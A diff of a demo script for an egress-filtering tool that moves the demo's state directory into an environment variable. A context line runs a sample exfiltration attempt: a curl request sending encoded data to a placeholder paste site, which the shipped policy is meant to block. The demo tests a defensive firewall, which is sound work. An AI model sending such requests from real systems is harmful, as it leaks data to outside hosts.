@@ -21,6 +21,8 @@ id="efdemo-$$"
 sb="$id-sb"
 net="$id-net"
 tmp=$(mktemp -d)
+# Generations and locks go to the demo's own state directory, not /var/lib/egress-fence.
+export EGRESS_FENCE_STATE_DIR="$tmp/state"
 pids=()
 
 cleanup() {
@@ -102,8 +104,7 @@ try "to a paste site" curl -sS --max-time 3 "http://paste.example.net:443/?d=c2V
 
 step "3. Apply the shipped default policy inside the sandbox"
 "$bin" check policies/default.yaml
-# Generations and locks go to the demo's own state directory, not /var/lib/egress-fence.
-"$bin" apply policies/default.yaml --netns "$sb" --state-dir "$tmp/state"
+"$bin" apply policies/default.yaml --netns "$sb"
 
 step "4. The table, read back from the kernel"
 "$bin" status --netns "$sb"
